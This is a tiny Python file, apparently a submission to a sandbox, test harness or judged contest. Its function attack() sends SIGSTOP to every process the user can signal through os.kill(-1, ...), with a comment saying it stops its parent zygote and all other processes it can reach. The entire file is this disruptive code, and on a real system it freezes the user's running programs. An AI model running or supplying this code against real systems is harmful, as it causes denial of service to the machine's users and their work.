# Stops the zygote that it is a copy of, and all other processes it may.
import os
import signal


def attack():
    try:
        os.kill(-1, signal.SIGSTOP)
    except ProcessLookupError:
        pass  # judged alone
